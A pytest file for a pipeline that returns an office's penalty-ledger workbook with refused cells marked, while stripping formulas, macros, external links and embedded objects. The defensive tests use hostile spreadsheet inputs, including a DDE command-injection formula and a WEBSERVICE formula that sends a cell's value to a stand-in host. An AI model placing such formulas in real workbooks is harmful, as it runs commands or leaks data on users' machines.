"""An office's own workbook comes back with the refused cells in red, and with nothing in it that could run."""

import io
import re
from collections.abc import Callable
from datetime import date

import pytest
import xlsxwriter
from openpyxl import Workbook, load_workbook
from openpyxl.cell import Cell
from openpyxl.cell.rich_text import CellRichText, TextBlock
from openpyxl.worksheet.worksheet import Worksheet

from pipelines.domain.errors import BinaryDocument, DamagedDocument, SheetTooLarge
from pipelines.exports.marked import RED, Mark, marked_workbook
from pipelines.extract.readers import Limits, xlsx
from tests.extract.readers.files import changed_zip, docx_file, unzipped, xlsx_file, zip_file
from tests.ledgers.sheets import Sheet, xlsx_of

HINT, HINTS = "本行有误", ("本行有误", "this row")
HEAD = ("案件编号", "立案日期", "罚没金额")


def book(build: Callable[[xlsxwriter.Workbook, xlsxwriter.worksheet.Worksheet], object] | None = None) -> bytes:
    """A ledger with a title merged over its columns, a header, two entries, and what `build` adds."""

    def write(workbook: xlsxwriter.Workbook) -> None:
        sheet = workbook.add_worksheet("台账")
        sheet.merge_range("A1:C1", "行政处罚台账", workbook.add_format({"bold": True, "font_size": 18}))
        sheet.write_row("A2", HEAD)
        sheet.write_row("A3", ["罚-1", "2024-02-31", 200])
        sheet.write_row("A4", ["罚-2", "2024-03-01", 300])
        if build is not None:
            build(workbook, sheet)

    return xlsx_file(write)


def marked(content: bytes, *marks: Mark) -> Workbook:
    return load_workbook(io.BytesIO(marked_workbook(content, marks or (DATE,), HINT, HINTS)), rich_text=True)


def is_red(cell: object) -> bool:
    assert isinstance(cell, Cell)
    return cell.fill.fgColor.rgb == RED


def cell_of(sheet: Worksheet, place: str) -> Cell:
    cell = sheet[place]
    assert isinstance(cell, Cell)
    return cell


DATE = Mark("台账", 3, 2, "不是日期")


def test_a_refused_cell_is_red_with_its_reason_and_a_hint_behind_its_row() -> None:
    sheet = marked(book())["台账"]
    red = {cell.coordinate for row in sheet.iter_rows() for cell in row if isinstance(cell, Cell) and is_red(cell)}
    assert red == {"B3", "D3"}
    comment = cell_of(sheet, "B3").comment
    assert comment is not None and comment.text == "✗ 不是日期"
    assert cell_of(sheet, "D3").value == HINT and cell_of(sheet, "D4").value is None
    assert cell_of(sheet, "B3").value == "2024-02-31"


def test_the_offices_own_formats_widths_merges_and_sheets_come_back() -> None:
    def build(workbook: xlsxwriter.Workbook, sheet: xlsxwriter.worksheet.Worksheet) -> None:
        money = workbook.add_format({"num_format": "#,##0.00", "bg_color": "#DDEEFF", "border": 1, "font_name": "仿宋"})
        sheet.write_number("C4", 300, money)
        sheet.write_datetime("B4", date(2024, 3, 1), workbook.add_format({"num_format": "yyyy/m/d"}))
        sheet.set_column("A:A", 27)
        sheet.set_row(3, 42)
        sheet.merge_range("A6:A7", "两行")
        sheet.freeze_panes(2, 1)
        sheet.data_validation("C3:C9", {"validate": "list", "source": "=选项!$A$1:$A$2"})
        sheet.conditional_format("C3:C9", {"type": "cell", "criteria": ">", "value": 1000, "format": money})
        listed = workbook.add_worksheet("选项")
        listed.write_column("A1", ["甲", "乙"])
        listed.hide()
        workbook.define_name("选项名", "=选项!$A$1:$A$2")

    workbook = marked(book(build))
    sheet = workbook["台账"]
    money = cell_of(sheet, "C4")
    assert (money.value, money.number_format, money.font.name) == (300, "#,##0.00", "仿宋")
    assert (money.fill.fgColor.rgb, money.border.left.style) == ("FFDDEEFF", "thin")
    assert cell_of(sheet, "A1").font.size == 18
    assert cell_of(sheet, "B4").number_format == "yyyy/m/d" and cell_of(sheet, "B4").is_date
    assert sheet.column_dimensions["A"].width == pytest.approx(27, abs=1) and sheet.row_dimensions[4].height == 42
    assert {str(merged) for merged in sheet.merged_cells.ranges} == {"A1:C1", "A6:A7"}
    assert sheet.freeze_panes == "B3"
    assert [each.formula1 for each in sheet.data_validations.dataValidation] == ["选项!$A$1:$A$2"]
    assert [str(each.sqref) for each in sheet.conditional_formatting] == ["C3:C9"]
    assert workbook["选项"].sheet_state == "hidden" and workbook["选项"]["A2"].value == "乙"
    assert "选项名" in workbook.defined_names


def test_a_number_in_a_cell_formatted_as_a_day_stays_as_it_was_typed() -> None:
    def build(workbook: xlsxwriter.Workbook, sheet: xlsxwriter.worksheet.Worksheet) -> None:
        day = workbook.add_format({"num_format": "yyyy-mm-dd"})
        sheet.write_number("B3", 20230506, day)
        sheet.write_number("B4", 45000.25, day)

    sheets = unzipped(marked_workbook(book(build), [DATE], HINT, HINTS))["xl/worksheets/sheet1.xml"]
    assert b"<v>20230506</v>" in sheets and b"<v>45000.25</v>" in sheets


def test_letters_that_are_formatted_one_by_one_stay_so() -> None:
    def build(workbook: xlsxwriter.Workbook, sheet: xlsxwriter.worksheet.Worksheet) -> None:
        bold = workbook.add_format({"bold": True, "font_color": "#FF0000"})
        sheet.write_rich_string("A4", bold, "罚", "-2（重大）")
        sheet.write_rich_string("A5", bold, "=", "1+1")

    sheet = marked(book(build))["台账"]
    value = cell_of(sheet, "A4").value
    assert isinstance(value, CellRichText) and str(value) == "罚-2（重大）"
    assert isinstance(value[0], TextBlock) and value[0].font.b
    assert cell_of(sheet, "A5").quotePrefix


def test_a_sheet_that_only_holds_a_chart_stays_behind_and_the_others_open() -> None:
    content = xlsx_of(Sheet([HEAD, ("罚-1", "2024-02-31", 1)]), chart="图")
    opened = changed_zip(
        content,
        "xl/workbook.xml",
        lambda xml: xml.replace(b"<workbookView ", b'<workbookView activeTab="1" firstSheet="1" '),
    )
    workbook = marked(opened, Mark("台账", 2, 2, "不是日期"))
    assert workbook.sheetnames == ["台账"]
    assert [(view.activeTab, view.firstSheet) for view in workbook.views] == [(0, 0)]


def test_a_comment_of_the_office_is_kept_before_the_reason() -> None:
    def build(_: xlsxwriter.Workbook, sheet: xlsxwriter.worksheet.Worksheet) -> None:
        sheet.write_comment("B3", "待查")
        sheet.write_comment("A4", "已核")

    sheet = marked(book(build), DATE, Mark("台账", 3, 2, "晚于今天"))["台账"]
    texts = {place: cell_of(sheet, place).comment for place in ("B3", "A4")}
    assert {place: comment and comment.text for place, comment in texts.items()} == {
        "B3": "待查\n✗ 不是日期\n✗ 晚于今天",
        "A4": "已核",
    }


def test_a_file_that_is_marked_again_shows_what_is_wrong_now() -> None:
    content = book(lambda _, sheet: sheet.write_comment("B3", "待查"))
    once = marked_workbook(content, [DATE, Mark("台账", 4, 3, "应为金额")], HINT, HINTS)
    sheet = marked(once, Mark("台账", 4, 1, "必填"))["台账"]
    comments = {
        cell.coordinate: cell.comment.text
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell, Cell) and cell.comment is not None
    }
    assert comments == {"B3": "待查", "A4": "✗ 必填"}
    red = {cell.coordinate for row in sheet.iter_rows() for cell in row if isinstance(cell, Cell) and is_red(cell)}
    assert red == {"A4", "D4"}
    assert cell_of(sheet, "D3").value is None


def test_a_refused_cell_under_a_merged_one_is_marked_where_the_text_stands() -> None:
    def build(_: xlsxwriter.Workbook, sheet: xlsxwriter.worksheet.Worksheet) -> None:
        sheet.write_column("A5", ["罚-3", "罚-4"])
        sheet.merge_range("B5:B6", "明天")

    sheet = marked(book(build), Mark("台账", 5, 2, "不是日期"), Mark("台账", 6, 2, "不是日期"))["台账"]
    comment = cell_of(sheet, "B5").comment
    assert comment is not None and comment.text == "✗ 不是日期"
    assert cell_of(sheet, "D5").value == cell_of(sheet, "D6").value == HINT


def test_a_hidden_row_or_column_with_a_refused_cell_is_shown() -> None:
    def build(_: xlsxwriter.Workbook, sheet: xlsxwriter.worksheet.Worksheet) -> None:
        sheet.set_row(2, None, None, {"hidden": True})
        sheet.set_row(3, None, None, {"hidden": True})
        sheet.set_column("B:XFD", 12, None, {"hidden": True})

    sheet = marked(book(build))["台账"]
    assert (sheet.row_dimensions[3].hidden, sheet.row_dimensions[4].hidden) == (False, True)
    assert not sheet.column_dimensions["B"].hidden
    assert list(sheet.column_dimensions) == ["B"], "widths that overlap would damage the file"


def test_formulas_and_links_come_back_as_text() -> None:
    def build(_: xlsxwriter.Workbook, sheet: xlsxwriter.worksheet.Worksheet) -> None:
        sheet.write_formula("C3", "=SUM(C4:C9)", None, 900)
        sheet.write_array_formula("C5:C5", "{=SUM(C4:C9*1)}", None, 9)
        sheet.write_string("A3", "=cmd|'/c calc'!A1")
        sheet.write_url("A5", "https://example.org/x", None, "看这里")
        sheet.write_string("A6", "-")

    content = marked_workbook(book(build), [DATE], HINT, HINTS)
    sheet = load_workbook(io.BytesIO(content))["台账"]
    assert [cell_of(sheet, place).value for place in ("C3", "C5", "A3", "A5")] == [
        "=SUM(C4:C9)",
        "=SUM(C4:C9*1)",
        "=cmd|'/c calc'!A1",
        "看这里",
    ]
    assert all(cell_of(sheet, place).quotePrefix for place in ("C3", "C5", "A3"))
    whole = b"".join(unzipped(content).values())
    assert not re.search(rb"<f[\s>/]", unzipped(content)["xl/worksheets/sheet1.xml"])
    assert b"example.org" not in whole


@pytest.mark.parametrize(
    "rule",
    ["=cmd|'/c calc'!A1", "=[1]台账!$A$1", '=WEBSERVICE("https://example.org/"&A1)', "=_xlfn.IMAGE(A1)"],
)
def test_a_rule_that_calls_or_leads_elsewhere_does_not_come_back(rule: str) -> None:
    def build(workbook: xlsxwriter.Workbook, sheet: xlsxwriter.worksheet.Worksheet) -> None:
        sheet.data_validation("C3:C9", {"validate": "custom", "value": rule})
        sheet.data_validation("B3:B9", {"validate": "custom", "value": "=LEN(B3)>3"})
        sheet.conditional_format("C3:C9", {"type": "formula", "criteria": rule, "format": workbook.add_format()})
        workbook.define_name("外部", rule)

    workbook = marked(book(build))
    sheet = workbook["台账"]
    assert [each.formula1 for each in sheet.data_validations.dataValidation] == ["LEN(B3)>3"]
    assert len(sheet.conditional_formatting) == 0 and not workbook.defined_names


def test_macros_links_to_workbooks_objects_and_pictures_stay_behind() -> None:
    def build(workbook: xlsxwriter.Workbook, sheet: xlsxwriter.worksheet.Worksheet) -> None:
        chart = workbook.add_chart({"type": "bar"})
        chart.add_series({"values": "=台账!$C$3:$C$4"})
        sheet.insert_chart("F2", chart)

    entries = unzipped(book(build))
    entries["xl/vbaProject.bin"] = b"Attribute VB_Name"
    entries["xl/externalLinks/externalLink1.xml"] = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    )
    entries["xl/embeddings/oleObject1.bin"] = b"object"
    entries["xl/connections.xml"] = b"<connections/>"
    entries["[Content_Types].xml"] = entries["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    written = unzipped(marked_workbook(zip_file(entries), [DATE], HINT, HINTS))
    forbidden = ("vba", "external", "embed", "connection", "chart", "drawings/drawing", "media", "activeX")
    assert not [name for name in written if any(word in name for word in forbidden)]
    assert b"macroEnabled" not in written["[Content_Types].xml"]


def test_a_form_of_workbook_that_would_come_back_empty_is_refused() -> None:
    transitional = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    strict = changed_zip(
        book(),
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace(transitional, b"http://purl.oclc.org/ooxml/spreadsheetml/main"),
    )
    with pytest.raises(DamagedDocument):
        marked_workbook(strict, [DATE], HINT, HINTS)
    with pytest.raises(DamagedDocument):
        marked_workbook(book(), [Mark("另一张", 1, 1, "必填")], HINT, HINTS)


def test_a_workbook_of_too_many_cells_and_another_format_are_refused_before_they_are_opened(monkeypatch) -> None:
    xlsx.refuse_unmarkable(book(), where="a.xlsx", limits=Limits())
    with pytest.raises(BinaryDocument):
        xlsx.refuse_unmarkable(docx_file(), where="a.xlsx", limits=Limits())
    monkeypatch.setattr(xlsx, "MOST_MARKED", 8)
    with pytest.raises(SheetTooLarge, match="limit of 8"):
        xlsx.refuse_unmarkable(book(), where="a.xlsx", limits=Limits())
